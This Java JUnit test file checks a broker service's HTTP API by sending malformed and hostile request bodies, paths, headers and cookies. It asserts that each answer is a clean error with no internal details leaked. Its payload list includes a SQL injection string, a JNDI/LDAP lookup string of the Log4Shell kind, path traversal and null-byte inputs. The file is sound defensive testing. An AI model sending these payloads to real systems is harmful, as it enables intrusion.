package org.usher.broker;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.usher.link.identity.ComponentIdentity;
import org.usher.link.identity.FarmTls;
import org.usher.wire.component.ComponentRole;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * Whatever comes in, the answer is a problem with a code, and never a 500, a stack trace or a hang. {@link ApiContract}
 * looks at each answer of the API; the fields to spoil are taken from the API's description, so a new one is spoilt too.
 */
class BadInputTest {

    @RegisterExtension
    static final SharedBroker SHARED = new SharedBroker();

    private static final JsonMapper JSON = new JsonMapper();

    /** What may stand in place of any value, as JSON. */
    private static final List<String> HOSTILE = List.of(
            "null",
            "true",
            "0",
            "-1",
            "1e400",
            "\"\"",
            "\"x\"",
            "\"a\\u0000b\"",
            "\"\\ud800\"",
            "\"\\u202e\\u200b\"",
            "\"a\\nb\"",
            "\"'; drop table site; --\"",
            "\"${jndi:ldap://192.0.2.1/}\"",
            "\"" + "x".repeat(70_000) + "\"",
            "{\"name\":null,\"uid\":\"x\"}",
            "{\"name\":\"a\\u0000\",\"uid\":2000}",
            "[]",
            "[null]",
            "[\"x\"]",
            "[\"a\\u0000b\"]",
            "[\"\\ud800\"]",
            "[\"00000000-0000-0000-0000-000000000000\"]",
            "[".repeat(500) + "]".repeat(500));

    private static final List<String> BROKEN = List.of(
            "",
            " ",
            "null",
            "[]",
            "{}",
            "\"\"",
            "1",
            "{",
            "{\"",
            "}",
            "\u0000",
            "{\"name\":\"a\",\"name\":\"b\"}",
            "[".repeat(100_000),
            "{\"a\":".repeat(100_000));

    private static RunningBroker running() {
        return SHARED.running();
    }

    private static String create(String path, Map<String, ?> body) throws Exception {
        RunningBroker.Browser admin = running().administrator();
        return admin.json(admin.post(path, body), 201).path("id").asString();
    }

    private static String unique() {
        return "bad-" + UUID.randomUUID();
    }

    /** An answer that is no success has to be a problem that tells nothing of the inside. */
    private static void requireSense(HttpResponse<String> response, String asked) {
        assertThat(response.statusCode()).as(asked).isLessThan(500);
        if (response.statusCode() >= 400) {
            JsonNode problem = JSON.readTree(response.body());
            assertThat(problem.path("code").asString("")).as(asked).isNotEmpty();
            assertThat(problem.path("status").asInt()).as(asked).isEqualTo(response.statusCode());
            assertThat(response.body())
                    .as(asked)
                    .doesNotContain("Exception")
                    .doesNotContain("org.usher")
                    .doesNotContain("tools.jackson");
        }
    }

    private record Call(String method, String path, String schema, Map<String, ?> good) {

        HttpResponse<String> send(RunningBroker.Browser browser, String body) throws Exception {
            return browser.send(browser.request(path).method(method, HttpRequest.BodyPublishers.ofString(body)));
        }

        String spoilt(String field, String value) {
            Map<String, JsonNode> fields = new LinkedHashMap<>();
            good.forEach((name, some) -> fields.put(name, JSON.valueToTree(some)));
            fields.remove(field);
            StringBuilder body = new StringBuilder("{\"" + field + "\":" + value);
            fields.forEach((name, some) ->
                    body.append(",\"").append(name).append("\":").append(some));
            return body.append('}').toString();
        }
    }

    private static List<Call> calls() throws Exception {
        String user = create("/api/v1/admin/users", Map.of("name", unique(), "password", "a long password"));
        String group = create("/api/v1/admin/groups", Map.of("name", unique()));
        Map<String, Object> resource = Map.of("kind", "application", "name", unique(), "target", "xterm");
        String published = create("/api/v1/admin/resources", resource);
        return List.of(
                new Call("POST", "/api/v1/admin/users", "NewUser", Map.of("name", unique(), "password", "short")),
                new Call("PATCH", "/api/v1/admin/users/" + user, "UserChange", Map.of()),
                new Call("POST", "/api/v1/admin/groups", "GroupForm", Map.of("name", unique())),
                new Call("PATCH", "/api/v1/admin/groups/" + group, "GroupForm", Map.of()),
                new Call("POST", "/api/v1/admin/resources", "AdminResourceForm", resource),
                new Call("PUT", "/api/v1/admin/resources/" + published, "AdminResourceForm", resource),
                new Call("PATCH", "/api/v1/admin/site", "SiteChange", Map.of()),
                new Call("POST", "/api/v1/admin/join-tokens", "JoinTokenRequest", Map.of()),
                new Call(
                        "POST",
                        "/api/v1/launches",
                        "LaunchRequest",
                        Map.of("key", UUID.randomUUID(), "resource", published, "width", 1000, "height", 700)));
    }

    @Test
    void everyFieldOfEveryRequestMayBeSpoilt() throws Exception {
        RunningBroker.Browser admin = running().administrator();
        JsonNode site = admin.json(admin.get("/api/v1/admin/site"), 200);
        int sent = 0;
        for (Call call : calls()) {
            List<String> fields = ApiContract.fields(call.schema());
            assertThat(fields).as(call.schema()).isNotEmpty();
            for (String field : fields) {
                for (String value : HOSTILE) {
                    String body = call.spoilt(field, value);
                    requireSense(call.send(admin, body), call.method() + " " + call.path() + " " + shown(body));
                    sent++;
                }
            }
        }
        assertThat(sent).isGreaterThan(500);
        admin.json(admin.patch("/api/v1/admin/site", site), 200);
    }

    private static String shown(String body) {
        return body.length() > 200 ? body.substring(0, 200) + "…" : body;
    }

    @Test
    void whatIsNoJsonIsRefusedByEveryRequest() throws Exception {
        RunningBroker.Browser admin = running().administrator();
        for (Call call : calls()) {
            for (String body : BROKEN) {
                requireSense(call.send(admin, body), call.method() + " " + call.path() + " " + shown(body));
            }
        }
    }

    @Test
    void nobodyHasSignedInAndEverythingIsRefusedInGoodOrder() throws Exception {
        RunningBroker.Browser stranger = running().browser();
        stranger.get("/api/v1/me");
        for (String value : HOSTILE) {
            for (String field : List.of("name", "password")) {
                Call call = new Call("POST", "/api/v1/sign-in", "SignIn", Map.of("name", unique(), "password", "y"));
                RunningBroker.Browser browser = running().browser();
                browser.get("/api/v1/me");
                HttpResponse<String> response = call.send(browser, call.spoilt(field, value));
                requireSense(response, field + " " + shown(value));
                assertThat(response.statusCode()).as(shown(value)).isIn(400, 401);
            }
        }
        for (String cookie : List.of("__Host-usher=", "__Host-usher=x", "__Host-usher=\"a b\"", "=;;=,=")) {
            HttpResponse<String> response = stranger.send(running()
                    .browser()
                    .request("/api/v1/me")
                    .header("Cookie", cookie)
                    .GET());
            assertThat(response.statusCode()).as(cookie).isEqualTo(401);
        }
        for (String token : List.of("", "x", "\u00e4", "a b c")) {
            HttpResponse<String> response =
                    stranger.send(stranger.request("/api/v1/admin/hosts").header("Authorization", "Bearer " + token));
            assertThat(response.statusCode()).as(token).isEqualTo(401);
        }
    }

    @Test
    void pathsAndQueriesThatMeanNothing() throws Exception {
        RunningBroker.Browser admin = running().administrator();
        String none = UUID.randomUUID().toString();
        List<String> asked = new ArrayList<>();
        for (String id :
                List.of(none, "x", "0", "%20", "%C3%28", "00000000-0000-0000-0000-00000000000g", "x".repeat(5_000))) {
            for (String what : List.of(
                    "launches/" + id,
                    "icons/" + id,
                    "admin/users/" + id,
                    "admin/resources/" + id,
                    "admin/hosts/" + id + "/applications")) {
                asked.add("/api/v1/" + what);
            }
        }
        for (String query : List.of(
                "limit=abc", "limit=-1", "limit=1001", "limit=", "limit=99999999999", "before=abc", "before=-1")) {
            asked.add("/api/v1/admin/audit?" + query);
        }
        for (String query :
                List.of("actor=%00", "action=%00", "actor=%ED%A0%80", "actor=%C3%28", "actor=%25", "limit=5&limit=6")) {
            asked.add("/api/v1/admin/audit?" + query);
        }
        asked.addAll(List.of(
                "/api/v1/me;x=1", "/api/v1//me", "/api/v1/%2e%2e/me", "/api/v1/me%00", "/error", "/api/v1/%5c"));
        for (String path : asked) {
            requireSense(admin.get(path), path);
        }
        for (String path : List.of(
                "admin/users/" + none,
                "admin/groups/" + none,
                "admin/resources/" + none,
                "admin/hosts/" + none,
                "admin/sessions/" + none,
                "sessions/" + none)) {
            assertThat(admin.delete("/api/v1/" + path).statusCode()).as(path).isEqualTo(404);
        }
        for (String path : List.of(
                "admin/sessions/" + none + "/disconnect",
                "sessions/" + none + "/disconnect",
                "sessions/" + none + "/windows/0x1/raise",
                "sessions/" + none + "/windows/0x1/close")) {
            assertThat(admin.post("/api/v1/" + path, Map.of()).statusCode())
                    .as(path)
                    .isEqualTo(404);
        }
    }

    @Test
    void methodsAndTypesThatAreNotMeant() throws Exception {
        RunningBroker.Browser admin = running().administrator();
        assertThat(admin.put("/api/v1/me", Map.of()).statusCode()).isEqualTo(405);
        assertThat(admin.delete("/api/v1/resources").statusCode()).isEqualTo(405);
        for (String type : List.of("text/plain", "application/xml", "nonsense", "application/json;charset=nonsense")) {
            HttpResponse<String> response = admin.send(admin.request("/api/v1/admin/groups")
                    .setHeader("Content-Type", type)
                    .POST(HttpRequest.BodyPublishers.ofString("{\"name\":\"x\"}")));
            requireSense(response, type);
            assertThat(response.statusCode()).as(type).isIn(400, 415);
        }
        for (String type : List.of("application/xml", "image/png", "nonsense")) {
            requireSense(
                    admin.send(admin.request("/api/v1/admin/groups")
                            .header("Accept", type)
                            .GET()),
                    "Accept: " + type);
        }
        for (String type : List.of("image/png", "image/svg+xml", "text/html", "nonsense")) {
            requireSense(
                    admin.send(admin.request("/api/v1/admin/icons")
                            .setHeader("Content-Type", type)
                            .POST(HttpRequest.BodyPublishers.noBody())),
                    type);
        }
    }

    @Test
    void aBodyThatIsTooLargeIsRefusedBeforeItIsReadWhole() throws Exception {
        RunningBroker.Browser admin = running().administrator();
        byte[] large = new byte[12 * 1024 * 1024];
        java.util.Arrays.fill(large, (byte) ' ');
        for (HttpRequest.BodyPublisher body : List.of(
                HttpRequest.BodyPublishers.ofByteArray(large),
                // Without a length, in chunks.
                HttpRequest.BodyPublishers.fromPublisher(HttpRequest.BodyPublishers.ofByteArray(large)))) {
            HttpResponse<String> response =
                    admin.send(admin.request("/api/v1/admin/groups").POST(body));
            requireSense(response, "12 MiB");
            assertThat(response.statusCode()).isEqualTo(413);
            assertThat(JSON.readTree(response.body()).path("code").asString()).isEqualTo("too-large");
        }
        assertThat(admin.get("/api/v1/me").statusCode()).isEqualTo(200);
    }

    // Components

    private static HttpClient client(@Nullable ComponentIdentity identity) throws Exception {
        HttpClient.Builder client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1);
        if (identity == null) {
            ComponentIdentity any =
                    running().join(running().hostToken(), ComponentRole.HOST, unique().substring(0, 20));
            return client.sslContext(
                            FarmTls.anonymous(new org.usher.link.identity.FarmTrust(any.authority(), peer -> true)))
                    .build();
        }
        return client.sslContext(FarmTls.mutual(identity, peer -> peer.role() == ComponentRole.BROKER))
                .build();
    }

    private static HttpResponse<String> post(HttpClient client, String path, String body) throws Exception {
        return client.send(
                HttpRequest.newBuilder(
                                URI.create("https://127.0.0.1:" + running().port() + path))
                        .header("Content-Type", "application/json")
                        .POST(HttpRequest.BodyPublishers.ofString(body))
                        .build(),
                HttpResponse.BodyHandlers.ofString());
    }

    private static final String SESSION =
            "{\"id\":null,\"account\":\"a\",\"display\":\":1\",\"attached\":true,\"orphan\":false,\"seconds\":1,\"windows\":[]}";

    @Test
    void componentsMayTalkNonsenseToo() throws Exception {
        ComponentIdentity host = running().join(running().hostToken(), ComponentRole.HOST, unique().substring(0, 20));
        ComponentIdentity gateway =
                running().join(running().token("gateway"), ComponentRole.GATEWAY, unique().substring(0, 20));
        Map<String, Call> calls = Map.of(
                "host/report",
                new Call(
                        "POST",
                        "/link/v1/host/report",
                        "",
                        Map.of(
                                "generation",
                                1,
                                "number",
                                1,
                                "port",
                                3389,
                                "frontReady",
                                true,
                                "load",
                                Map.of("cpu", 0.1, "memory", 0.1),
                                "sessions",
                                List.of(),
                                "applications",
                                "d",
                                "version",
                                "1")),
                "host/applications",
                new Call("POST", "/link/v1/host/applications", "", Map.of("digest", "d", "applications", List.of())),
                "host/news",
                new Call(
                        "POST",
                        "/link/v1/host/news",
                        "",
                        Map.of("results", List.of(), "stages", List.of(), "refused", List.of())),
                "gateway/report",
                new Call(
                        "POST",
                        "/link/v1/gateway/report",
                        "",
                        Map.of(
                                "streams",
                                0,
                                "version",
                                "1",
                                "relayPort",
                                0,
                                "refused",
                                List.of(),
                                "carried",
                                List.of())),
                "join",
                new Call(
                        "POST",
                        "/link/v1/join",
                        "",
                        Map.of(
                                "secret",
                                "x",
                                "name",
                                "x",
                                "publicKey",
                                "x",
                                "proof",
                                "x",
                                "addresses",
                                List.of("127.0.0.1"),
                                "version",
                                "1")));
        HttpClient asHost = client(host);
        HttpClient asGateway = client(gateway);
        HttpClient asNobody = client(null);
        List<String> special = new ArrayList<>(HOSTILE);
        special.add("[" + SESSION + "]");
        special.add("[" + SESSION.replace("\"a\"", "\"a\\u0000\"") + "]");
        special.add("["
                + SESSION.replace(
                        "\"windows\":[]",
                        "\"windows\":[{\"id\":\"0x1\",\"title\":\"a\\u0000\\ud800\",\"active\":true}]")
                + "]");
        special.add("[" + SESSION.replace("\"windows\":[]", "\"windows\":[null]") + "]");
        special.add(
                "[{\"id\":\"a\\u0000\",\"name\":\"x\",\"comment\":\"\",\"command\":[\"x\"],\"desktop\":false,\"icon\":null}]");
        special.add(
                "[{\"id\":\"b\",\"name\":\"x\",\"comment\":\"\",\"command\":[null],\"desktop\":false,\"icon\":null}]");
        special.add("[{\"id\":\"c\",\"name\":\"x\",\"comment\":\"\",\"command\":[\"x\"],\"desktop\":false,"
                + "\"icon\":{\"type\":\"image/png\",\"data\":\"no base64!\"}}]");
        special.add("[{\"id\":\"00000000-0000-0000-0000-000000000000\",\"code\":\"x\",\"detail\":\"\"}]");
        special.add(
                "[{\"launch\":\"00000000-0000-0000-0000-000000000000\",\"stage\":\"a\\u0000\",\"millisecondsAgo\":-1,\"failure\":\"\"}]");
        for (Call call : calls.values()) {
            HttpClient client =
                    call.path().contains("/host/") ? asHost : call.path().contains("/gateway/") ? asGateway : asNobody;
            assertThat(call.good()).isNotEmpty();
            for (String field : call.good().keySet()) {
                for (String value : special) {
                    String body = call.spoilt(field, value);
                    requireSense(post(client, call.path(), body), call.path() + " " + shown(body));
                }
            }
            for (String body : BROKEN) {
                requireSense(post(client, call.path(), body), call.path() + " " + shown(body));
            }
        }
        HttpResponse<String> large = post(asNobody, "/link/v1/join", " ".repeat(3 * 1024 * 1024) + "{}");
        assertThat(large.statusCode()).as("a stranger's three MiB").isEqualTo(413);
    }
}
